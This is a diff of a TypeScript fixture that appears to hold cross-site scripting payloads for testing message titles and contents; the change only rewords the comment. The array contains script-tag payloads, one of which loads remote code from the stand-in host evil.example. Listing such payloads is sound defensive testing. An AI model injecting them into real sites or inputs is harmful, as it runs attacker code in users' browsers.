@@ -1,4 +1,4 @@
-/** What tries to run, load, style or name something, as title and as content of a message. */
+/** Titles and contents of messages that try to run, load, style or name something. */
 export const SCRIPT_PAYLOADS: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
